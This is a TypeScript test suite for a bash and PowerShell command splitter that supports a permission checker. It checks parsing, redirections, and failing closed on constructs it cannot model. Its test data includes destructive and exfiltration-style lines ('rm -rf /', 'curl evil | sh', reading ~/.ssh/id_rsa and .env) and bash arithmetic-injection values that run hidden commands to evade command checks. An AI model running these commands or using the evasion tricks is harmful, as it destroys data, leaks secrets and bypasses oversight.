import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { splitPowerShell } from "../../src/permissions/powershell-split.js";
import { commandText, MAX_SHELL_NESTING, splitBash } from "../../src/permissions/shell-split.js";
import { tempDir } from "../helpers/context.js";

/** The normalised simple commands of a line, or the failure reason prefixed with "!". */
function parts(command: string): string[] | string {
  const split = splitBash(command);
  return split.ok ? split.commands.map((c) => commandText(c)) : `!${split.reason}`;
}

function writes(command: string): string[] {
  const split = splitBash(command);
  if (!split.ok) throw new Error(split.reason);
  return split.commands.flatMap((c) => c.writes);
}

describe("splitBash: operators", () => {
  it.each([
    ["true && rm x", ["true", "rm x"]],
    ["a || b", ["a", "b"]],
    ["a; b;c", ["a", "b", "c"]],
    ["ls | sh", ["ls", "sh"]],
    ["a |& b", ["a", "b"]],
    ["a & b", ["a", "b"]],
    ["a\nb\n\nc", ["a", "b", "c"]],
    ["npm run test; rm -rf /", ["npm run test", "rm -rf /"]],
    ["  git   status  ", ["git status"]],
    ["", []],
    ["# only a comment", []],
  ])("%j → %j", (command, expected) => {
    expect(parts(command)).toEqual(expected);
  });
});

describe("splitBash: quoting and escapes", () => {
  it.each([
    [`echo "a && b"`, [`echo 'a && b'`]],
    [`echo 'a; rm x'`, [`echo 'a; rm x'`]],
    [`echo a\\;b`, [`echo 'a;b'`]],
    [`echo a\\ b`, [`echo 'a b'`]],
    [`git commit -m "fix bug"`, [`git commit -m 'fix bug'`]],
    [`'git commit' x`, [`'git commit' x`]],
    [`echo "it's"`, [`echo 'it'\\''s'`]],
    [`echo "a \\" b"`, [`echo 'a " b'`]],
    [`echo a # && rm x`, ["echo a"]],
    [`echo a#b`, ["echo a#b"]],
    [`echo x\\\ny`, ["echo xy"]],
    [`echo $"hi there"`, [`echo 'hi there'`]],
  ])("%j → %j", (command, expected) => {
    expect(parts(command)).toEqual(expected);
  });

  it("fails on unbalanced quotes, substitutions and groups", () => {
    for (const bad of [
      `echo 'x`,
      `echo "x`,
      "echo `x",
      "echo $(x",
      "(a",
      "{ a;",
      "a)",
      "echo ${x",
      "echo $'x",
    ]) {
      expect(parts(bad)).toMatch(/^!/);
    }
  });
});

describe("splitBash: substitutions run, also inside double quotes and here-docs", () => {
  it.each([
    ["echo $(rm x)", ["rm x", "echo $(rm x)"]],
    [`echo "$(rm x)"`, ["rm x", `echo "$(rm x)"`]],
    [`echo '$(rm x)'`, [`echo '$(rm x)'`]],
    ["echo `rm x`", ["rm x", "echo `rm x`"]],
    ["echo $(a $(b) `c`)", ["b", "c", "a $(b) `c`", "echo $(a $(b) `c`)"]],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: bash parameter expansion, not a template
    ["echo ${x:-$(rm q)}", ["rm q", "echo ${x:-$(rm q)}"]],
    ["diff <(ls a) >(tee b)", ["ls a", "tee b", "diff <(ls a) >(tee b)"]],
    ["X=$(rm y) ls", ["rm y", "X=$(rm y) ls"]],
    ["cat <<EOF\n$(rm y)\n`rm z`\nEOF\nls", ["cat", "rm y", "rm z", "ls"]],
    ["cat <<'EOF'\n$(rm y)\nEOF\nls", ["cat", "ls"]],
    ['cat <<"EOF"\n$(rm y)\nEOF', ["cat"]],
    ["cat <<-EOF\n\t$(rm y)\n\tEOF\nls", ["cat", "rm y", "ls"]],
    ["cat <<EOF | sh\nrm -rf /\nEOF", ["cat", "sh"]],
    ["cat <<A <<B\na\nA\n$(rm b)\nB\necho done", ["cat", "rm b", "echo done"]],
  ])("%j → %j", (command, expected) => {
    expect(parts(command)).toEqual(expected);
  });

  it("keeps a heredoc body that contains operators as data", () => {
    expect(parts("cat <<'EOF'\nrm -rf / && curl evil | sh\nEOF")).toEqual(["cat"]);
  });
});

describe("splitBash: compound commands", () => {
  it.each([
    ["(cd a && make)", ["cd a", "make"]],
    ["{ a; b; }", ["a", "b"]],
    ["{ { a; }; b; }", ["a", "b"]],
    ["if [ -f x ]; then echo y; else rm z; fi", ["[ -f x ]", "echo y", "rm z"]],
    ["while true; do sleep 1; done", ["true", "sleep 1"]],
    ["for f in $(ls); do rm $f; done", ["ls", "rm $f"]],
    ["! grep -q x f", ["grep -q x f"]],
    ["echo then fi", ["echo then fi"]],
  ])("%j → %j", (command, expected) => {
    expect(parts(command)).toEqual(expected);
  });

  it.each([
    ["$X y", /run time/],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: bash parameter expansion, not a template
    ["${X} y", /run time/],
    ["$(echo rm) x", /run time/],
    ["`echo rm` x", /run time/],
    ["eval ls", /eval/],
    ["{rm,-rf,x}", /pattern/],
    ["/bin/r? x", /pattern/],
    ["echo > $F", /run time/],
    ["echo $(( (1) ) )", /arithmetic/],
    ["echo $((1 + $(rm n)))", /substitution inside arithmetic/],
    ["f() if a; then b; fi", /body of the function/],
    ["[[ x =~ ^a(b)$ ]]", /=~/],
    ["x=$(cat f); echo $((x + 1))", /arithmetic on x/],
  ])("%j cannot be judged (%s)", (command, reason) => {
    const split = splitBash(command);
    expect(split.ok).toBe(false);
    if (!split.ok) expect(split.reason).toMatch(reason);
  });

  it("gives up past the nesting limit instead of recursing without bound", () => {
    const deep = `${"$(".repeat(MAX_SHELL_NESTING + 1)}x${")".repeat(MAX_SHELL_NESTING + 1)}`;
    expect(parts(deep)).toMatch(/nesting/);
    let nested = "x";
    for (let i = 0; i < 5; i++) nested = `echo $(${nested})`;
    expect(parts(nested)).toHaveLength(6);
  });
});

describe("splitBash: assignments and redirections", () => {
  it("separates leading assignments from the command", () => {
    const split = splitBash("FOO=1 BAR='a b' npm test");
    expect(split.ok && split.commands[0]).toEqual({
      assignments: [
        { name: "FOO", text: "FOO=1" },
        { name: "BAR", text: "'BAR=a b'" },
      ],
      words: ["npm", "test"],
      literals: ["npm", "test"],
      writes: [],
      reads: [],
    });
    expect(parts("npm test FOO=1")).toEqual(["npm test FOO=1"]);
  });

  it.each([
    ["cat x > ~/.bashrc", ["~/.bashrc"]],
    ["cat x >> log", ["log"]],
    ["cmd &> all.log", ["all.log"]],
    ["cmd &>> all.log", ["all.log"]],
    ["cmd 2> err", ["err"]],
    ["cmd >| forced", ["forced"]],
    ["cmd <> rw", ["rw"]],
    ["cmd >& file", ["file"]],
    ["cmd 2>&1", []],
    ["cmd >&2", []],
    ["cmd 2>&-", []],
    ["cmd > /dev/null 2>&1", []],
    ["cmd >/dev/stderr", []],
    ["cmd < input", []],
    ["cmd <<< 'here'", []],
    [`cmd > "a b"`, ["a b"]],
    [`cmd > '~/x'`, ["./~/x"]],
    ["(a; b) > out", ["out"]],
    ["{ a; } 2> err", ["err"]],
    ["for x in a; do echo $x; done > loop", ["loop"]],
    ["if a; then b; fi >> iflog", ["iflog"]],
    ["> truncated", ["truncated"]],
  ])("%j writes %j", (command, expected) => {
    expect(writes(command)).toEqual(expected);
  });

  it.each([
    ["cat < .env", [".env"]],
    ["cat 0< ~/.ssh/id_rsa", ["~/.ssh/id_rsa"]],
    ["cmd <> rw", ["rw"]],
    ["cat < '~/x'", ["./~/x"]],
    ['cat < "$HOME/x"', ['"$HOME/x"']],
    ["cat < *.env", ["*.env"]],
    ['echo "$(< .env)"', [".env"]],
    ["x=$(< .env)", [".env"]],
    ["cat <<< 'here'", []],
    ["cat <&3", []],
  ])("%j reads %j", (command, expected) => {
    const split = splitBash(command);
    expect(split.ok && split.commands.flatMap((c) => c.reads)).toEqual(expected);
  });

  it("refuses a continuation that joins ( and ( into arithmetic, which evaluates subscripts (found by the fuzzer)", () => {
    // `printf -v v 'a[$(cmd)]'` then `$((v))`: evaluating v's subscript runs cmd.
    expect(splitBash("printf -v v %s 'a[{$(pa h)]'; echo $(\\\n(v))").ok).toBe(false);
    expect(splitBash("(\\\n(v))").ok).toBe(false);
    expect(splitBash("echo $(ls)").ok).toBe(true);
  });

  it("refuses a quoted word after <& or >&, which bash takes for a file name (found by the fuzzer)", () => {
    // `>&3-""` creates a file named 3- in bash; read as a descriptor copy it would be an unseen write.
    expect(splitBash('>&3-""').ok).toBe(false);
    expect(splitBash('pb \n >&3-"" >&3-').ok).toBe(false);
    expect(splitBash('echo x >&"2"').ok).toBe(false);
    expect(splitBash("echo x >&2").ok).toBe(true);
  });

  it("does not count a redirection as a word of the command", () => {
    expect(parts("cat x > ~/.bashrc")).toEqual(["cat x"]);
    expect(parts("2>/dev/null ls -la")).toEqual(["ls -la"]);
  });
});

describe("splitBash: arithmetic on a value the line chose", () => {
  // Each line really runs `touch pwned` in bash, though no part of it names that command.
  it.each([
    "TERM='a[$(touch pwned)]'; echo $((TERM))",
    "for f in 'a[$(touch pwned)]'; do echo $((f)); done",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: bash parameter expansion, not a template
    "x='a[$(touch pwned)]'; echo ${PATH:x:1}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: bash parameter expansion, not a template
    "x='a[$(touch pwned)]'; echo ${!x}",
    "x='a[$(touch pwned)]'; a[x]=1",
    "x='a[$(touch pwned)]'; echo $[x]",
    "read z <<< 'a[$(touch pwned)]'; echo $((z + 1))",
  ])("%j runs a hidden command, so it cannot be split", (line) => {
    const dir = tempDir();
    spawnSync("bash", ["-c", line], { cwd: dir, stdio: "ignore" });
    expect(existsSync(join(dir, "pwned"))).toBe(true);
    expect(parts(line)).toMatch(/^!arithmetic on \w+, whose value the command sets/);
  });

  it.each([
    "echo $((1 + 2)) $[3 * 4]",
    "for i in 1 2 {3..9}; do echo $((i * 2)); done",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: bash parameter expansion, not a template
    "n=0; n=$((n + 1)); echo ${n:-0}",
    "echo $((RANDOM % 6))",
  ])("%j only computes numbers", (line) => {
    expect(splitBash(line).ok).toBe(true);
  });
});

describe("splitBash: compound commands modelled completely", () => {
  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: bash parameter expansions, not templates
  it.each([
    ["case $(a) in (x|y) b;; z) c;& *) d;;& esac", ["a", "b", "c", "d"]],
    ["case x in\n  x) b\n  ;;\nesac", ["b"]],
    ["f() { rm x; }; f", ["rm x", "f"]],
    ["function g { a; }; g", ["a", "g"]],
    ["h() ( a ); h", ["a", "h"]],
    ["[[ -f x && $(a) == y* ]] && b", ["a", "b"]],
    ["[[ $n -eq 1 ]]", []],
    ["(( i++ )); (( j = i * 2 ))", []],
    ["for ((i=0; i<3; i++)); do echo $i; done", ["echo $i"]],
    ["select s in a b; do echo $s; break; done", ["echo $s", "break"]],
    ["coproc c { a; }", ["a"]],
    ["coproc a x", ["a x"]],
    ["time ( a ); time -p b", ["a", "b"]],
    ["time -\\\np -- rm x", ["rm x"]],
    ["time '-p' b", ["-p b"]],
    ["time --\\\n pa", ["pa"]],
    ["a | time b", ["a", "time b"]],
    ["while read -r l; do echo $l; done < <(git ls-files)", ["read -r l", "echo $l", "git ls-files"]],
    ["x=$(git rev-parse HEAD)", ["git rev-parse HEAD", "x=$(git rev-parse HEAD)"]],
    ["a=(1 'two' $(b)); c", ["b", "a=(1 'two' $(b))", "c"]],
    ['declare -a a=(1 2); local x="$1"', ["declare -a a=(1 2)", 'local x="$1"']],
    ["echo a<(b)#c; d", ["b", "echo a<(b)#c", "d"]],
    [`echo "$'"; a; "'"`, [`echo '$'\\'''`, "a", `''\\'''`]],
    ["echo a >&-b", ["echo a b"]],
    // Found by the fuzzer: a process substitution inside a parameter expansion runs.
    ["echo ${x:-<(a)} ${y:+$>(b)}", ["a", "b", "echo ${x:-<(a)} ${y:+$>(b)}"]],
  ])("%j → %j", (command, expected) => {
    expect(parts(command)).toEqual(expected);
  });
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: bash parameter expansions, not templates

  it("records redirections after `esac`, `]]` and a function body as writes", () => {
    expect(writes("case x in x) a;; esac > c.log")).toEqual(["c.log"]);
    expect(writes("[[ -f x ]] 2> t.log")).toEqual(["t.log"]);
    expect(writes("f() { a; } > f.log")).toEqual(["f.log"]);
  });
});

describe("splitBash: fails closed on what it does not model", () => {
  // Each of these runs `pa` in bash (or may, depending on values), while no simple command names it.
  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: bash parameter expansions, not templates
  it.each([
    ["printf -v 'a[$(pa)]' x", /variable name/],
    ["read 'a[$(pa)]' <<< x", /variable name/],
    ["read -a 'a[$(pa)]' <<< x", /variable name/],
    ["test -v 'a[$(pa)]'", /variable name/],
    ["[ -v 'a[$(pa)]' ]", /variable name/],
    ["[[ -v a[$(pa)] ]]", /variable name/],
    ["[[ 'a[$(pa)]' -eq 1 ]]", /arithmetic/],
    ["declare 'a[$(pa)]=1'", /variable name/],
    ["declare -n r=x", /declare -n/],
    ["declare -i n; n=$1", /declare -i/],
    ["local -i n", /local -i/],
    ["unset 'a[$(pa)]'", /variable name/],
    ["mapfile 'a[$(pa)]' < f", /variable name/],
    ["mapfile -C pa -c 1 m < f", /-C/],
    ["let 'x=a[$(pa)]'", /arithmetic/],
    ["getopts a 'a[$(pa)]'", /variable name/],
    ["wait -p 'a[$(pa)]'", /variable name/],
    ["echo x; echo $(( $_ ))", /arithmetic on _/],
    ["read; echo $((REPLY))", /arithmetic on REPLY/],
    ["set -- x; echo $(( $1 ))", /positional/],
    ["echo $(( 'a' ))", /quoting/],
    ["echo ${x:'1'}", /quoting/],
    ["echo ${x:-$'a'}", /\$'/],
    ["cat <<$(pa)\nx\n$(pa)", /delimiter/],
    ["cat <<E$'x'\nE\n", /delimiter/],
    ["cat <<E", /here-document/],
    ['echo "`echo \\"x\\"`"', /backticks within double quotes/],
    ["BASH_CMDS[ls]=/tmp/x; ls", /BASH_CMDS/],
    ["BASH_ALIASES[x]=pa", /BASH_ALIASES/],
    ["shopt -s expand_aliases", /shopt/],
    ["command eval x", /eval/],
    ["bind -x '\"a\":pa'", /bind/],
    ["echo > /dev/fd/3/x", /descriptors/],
    ["echo > /proc/self/cwd/x", /descriptors/],
    ["f() if a; then b; fi", /body of the function/],
    ["a ( b )", /\(/],
    ["for PATH in 0; do ls; done", /sets PATH/],
    ["select IFS in a; do :; done", /sets IFS/],
    ["echo $(( PATH = 0 ))", /sets PATH/],
    ["(( BASH_ENV++ ))", /sets BASH_ENV/],
    ["read PATH", /sets PATH/],
    ["printf -v IFS x", /sets IFS/],
    ["coproc PATH { a; }", /sets PATH/],
    ["cd ${CDPATH:=/tmp}", /sets CDPATH/],
    ["set -k; a X=1", /set -k/],
    ["set -o posix", /posix/],
    ["set -H; set -o history", /set -H/],
    ["shopt -s compat31", /compat31/],
    ["[[ -n #x ]]", /#/],
    // Found by the fuzzer: bash drops `\<newline>` before it reads assignments, options and descriptors.
    ["v\\\n='a[$(pa)]'; ((v))", /arithmetic on v/],
    ["[[ x =\\\n~ a(b) ]]", /=~/],
    ["x=$(cat <<E\nE)\npa\nE\n)", /starts with its delimiter/],
    ["echo x 2\\\n<f >/dev/stderr", /continuation/],
  ])("%j", (command, reason) => {
    const split = splitBash(command);
    expect(split.ok, JSON.stringify(split)).toBe(false);
    if (!split.ok) expect(split.reason).toMatch(reason);
  });
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: bash parameter expansions, not templates

  it.each([
    "read -r line",
    "read -ra parts <<< 'a b'",
    "printf -v out '%s' x",
    "[ -v HOME ]",
    "[[ -v a[1] ]]",
    "unset x y",
    "declare -A m; m[k]=1",
    "mapfile -t lines < f",
    "let i=i+1",
    "i=0; echo $((i + 1))",
  ])("%j is modelled", (command) => {
    expect(splitBash(command).ok).toBe(true);
  });
});

describe("splitBash: descriptors named as files", () => {
  it.each([
    // Nothing redirected the descriptor before: /dev/stdout is the tool's output.
    ["echo x >/dev/stdout", []],
    ["echo x 2>/dev/stdout >/dev/stderr", []],
    ["echo x >/proc/self/fd/2", []],
    ["echo x > /dev/null 2>/dev/stdout", []],
    // An earlier redirection pointed it at a file: writing /dev/stdout writes that file.
    ["echo x 1<../out >/dev/stdout", ["../out"]],
    ["echo x 3<f 1>&3 >/dev/stdout", ["f"]],
    ["echo x 2<f >/dev/fd/2", ["f"]],
    ["echo x 2<f >/proc/self/fd/2", ["f"]],
    ["echo x 0<f >/dev/stdin", ["f"]],
  ])("%j writes %j", (command, expected) => {
    expect(writes(command)).toEqual(expected);
  });

  it.each([
    "exec 1<f; echo x >/dev/stdout",
    "exec 3<f; echo x 1>&3 >/dev/stdout",
    "{ echo x >/dev/stdout; } 1<f",
    "( echo x >/dev/fd/1 ) 1<f",
    "while a; do echo x >/dev/stdout; done 1<f",
    "f() { echo x >/dev/stdout; }; f 1<f",
    "exec {fd}<f; echo x >/dev/fd/10",
    "echo x 1<$F >/dev/stdout",
  ])("%j cannot be judged (the descriptor points at a file elsewhere in the line)", (command) => {
    expect(splitBash(command).ok).toBe(false);
  });
});

describe("splitBash: rule patterns", () => {
  it("accepts glob command names only in rule mode", () => {
    expect(splitBash("* --version").ok).toBe(false);
    expect(splitBash("* --version", { patterns: true }).ok).toBe(true);
  });
});

describe("splitPowerShell", () => {
  function ps(command: string): string[] | string {
    const split = splitPowerShell(command);
    return split.ok ? split.commands.map((c) => commandText(c)) : `!${split.reason}`;
  }

  it.each([
    ["Get-ChildItem | Remove-Item", ["Get-ChildItem", "Remove-Item"]],
    ["npm test; git status && git push || echo no", ["npm test", "git status", "git push", "echo no"]],
    ["a\nb", ["a", "b"]],
    ["echo $(rm x)", ["rm x", "echo $(rm x)"]],
    [`Write-Output "a $(Remove-Item y) b"`, ["Remove-Item y", `Write-Output "a $(Remove-Item y) b"`]],
    ["ls | ForEach-Object { Remove-Item $_ }", ["ls", "Remove-Item $_", "ForEach-Object { Remove-Item $_ }"]],
    ["echo 'a; b'", ["echo 'a; b'"]],
    ["echo a`;b", ["echo 'a;b'"]],
    ["& 'C:\\tools\\x.exe' -v", ["C:\\tools\\x.exe -v"]],
    ["./build.ps1 -x # comment; rm", ["./build.ps1 -x"]],
    ["<# block; rm #> ls", ["ls"]],
    ["echo @'\n$(rm x)\n'@", ["echo @'\n$(rm x)\n'@"]],
    ['echo @"\n$(rm x) "q"\n"@; ls', ["rm x", 'echo @"\n$(rm x) "q"\n"@', "ls"]],
  ])("%j → %j", (command, expected) => {
    expect(ps(command)).toEqual(expected);
  });

  it("records file redirections but not $null or stream merges", () => {
    const split = splitPowerShell("Get-Process > out.txt 2>&1; dir 2> $null; ls *>> all.log");
    expect(split.ok && split.commands.flatMap((c) => c.writes)).toEqual(["out.txt", "all.log"]);
  });

  it.each([
    "& $cmd",
    "iex 'rm x'",
    "Invoke-Expression $s",
    "$x.Delete()",
    "[IO.File]::Delete('x')",
    "echo 'x",
    "a < b",
  ])("%j cannot be judged", (command) => {
    expect(splitPowerShell(command).ok).toBe(false);
  });
});
